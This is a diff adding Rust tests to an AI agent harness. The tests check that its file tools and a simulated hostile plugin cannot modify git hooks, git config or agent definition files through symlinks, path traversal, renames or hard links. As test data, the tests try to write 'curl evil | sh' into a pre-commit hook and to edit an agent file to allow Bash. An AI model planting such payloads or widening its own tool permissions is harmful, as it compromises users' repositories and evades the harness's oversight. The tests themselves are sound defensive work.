@@ -519,3 +519,131 @@ fn inputs_are_checked_against_the_schema_before_the_plugin_runs() {
         "{r:?}"
     );
 }
+
+/// A workspace with a git hook, git config and an agent definition to protect, and a symlink
+/// into `.git` such as an earlier command could have left.
+fn protected_fixture(h: &Harness) {
+    h.ws.write(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n");
+    h.ws.write(".git/config", "[core]\n");
+    h.ws.write(".rawko/agents/x.yaml", "name: x\n");
+    std::os::unix::fs::symlink(h.ws.path().join(".git/hooks"), h.ws.path().join("hooks")).unwrap();
+    std::os::unix::fs::symlink(
+        h.ws.path().join(".git/hooks/post-checkout"),
+        h.ws.path().join("dangling"),
+    )
+    .unwrap();
+}
+
+fn assert_protected_unchanged(h: &Harness) {
+    assert_eq!(h.ws.read(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n");
+    assert_eq!(h.ws.read(".git/config"), "[core]\n");
+    assert_eq!(h.ws.read(".rawko/agents/x.yaml"), "name: x\n");
+    assert!(!h.ws.path().join(".git/hooks/post-checkout").exists());
+}
+
+#[test]
+fn the_first_party_write_and_edit_cannot_change_git_or_rawko() {
+    let h = Harness::new();
+    protected_fixture(&h);
+    let rw = h.grants(Access::ReadWrite);
+    let tool = |name: &str, input: serde_json::Value| {
+        h.call_with(&h.tools, name, input, &rw, Budget::default())
+    };
+    for path in [
+        ".git/hooks/pre-commit",
+        ".git/config",
+        ".git/hooks/post-checkout",
+        "src/../.git/hooks/pre-commit",
+        "hooks/pre-commit",
+        "dangling",
+        ".rawko/agents/x.yaml",
+        ".rawko/agents/new.yaml",
+    ] {
+        let r = tool(
+            "Write",
+            json!({"path": path, "content": "curl evil | sh\n"}),
+        );
+        assert!(r.is_err(), "Write {path}: {r:?}");
+    }
+    let r = tool(
+        "Edit",
+        json!({"path": ".rawko/agents/x.yaml", "old_string": "name: x", "new_string": "name: x\ntools: {allowed: [Bash]}"}),
+    );
+    assert!(r.is_err(), "{r:?}");
+    let r = tool(
+        "Edit",
+        json!({"path": "hooks/pre-commit", "old_string": "exit 0", "new_string": "curl evil | sh"}),
+    );
+    assert!(r.is_err(), "{r:?}");
+    assert_protected_unchanged(&h);
+    // Reading stays allowed, and so does writing next to them.
+    let r = tool("Read", json!({"path": ".git/config"})).unwrap();
+    assert!(r.content.contains("[core]"), "{r:?}");
+    tool("Write", json!({"path": "gitnotes.txt", "content": "ok\n"})).unwrap();
+    assert_eq!(h.ws.read("gitnotes.txt"), "ok\n");
+    h.assert_healthy();
+}
+
+#[test]
+fn a_hostile_plugin_cannot_write_rename_or_link_its_way_into_git_or_rawko() {
+    let h = Harness::new();
+    protected_fixture(&h);
+    let ws = h.ws.path();
+    let at = |rel: &str| ws.join(rel).display().to_string();
+    for path in [
+        ".git/hooks/pre-commit",
+        ".git/hooks/post-checkout",
+        "hooks/pre-commit",
+        "hooks/../config",
+        "dangling",
+        ".rawko/agents/x.yaml",
+    ] {
+        let r = h.attack(
+            "RawWrite",
+            json!({"path": at(path), "content": "pwned"}),
+            Access::ReadWrite,
+        );
+        assert!(r.is_err(), "RawWrite {path}: {r:?}");
+    }
+    // Move .git aside to write it, or swap in a directory of one's own.
+    h.ws.write("evil/hooks/pre-commit", "pwned");
+    for (src, dst) in [
+        (".git", "moved"),
+        (".rawko", "moved"),
+        ("evil", ".git"),
+        ("evil/hooks/pre-commit", ".git/hooks/pre-commit"),
+    ] {
+        let r = h.attack(
+            "Rename",
+            json!({"src": at(src), "dst": at(dst)}),
+            Access::ReadWrite,
+        );
+        assert!(r.is_err(), "Rename {src} -> {dst}: {r:?}");
+    }
+    // A second name for a protected file would be a way to write it.
+    let r = h.attack(
+        "HardLink",
+        json!({"src": at(".git/config"), "dst": at("config-alias")}),
+        Access::ReadWrite,
+    );
+    assert!(r.is_err(), "{r:?}");
+    assert!(!ws.join("config-alias").exists());
+    assert!(!ws.join("moved").exists());
+    assert_protected_unchanged(&h);
+    // The same plugin still reads them, and writes elsewhere.
+    let out = h
+        .attack(
+            "RawRead",
+            json!({"path": at(".git/config")}),
+            Access::ReadWrite,
+        )
+        .unwrap();
+    assert!(out.contains("[core]"), "{out}");
+    h.attack(
+        "RawWrite",
+        json!({"path": at("fine.txt"), "content": "ok"}),
+        Access::ReadWrite,
+    )
+    .unwrap();
+    h.assert_healthy();
+}
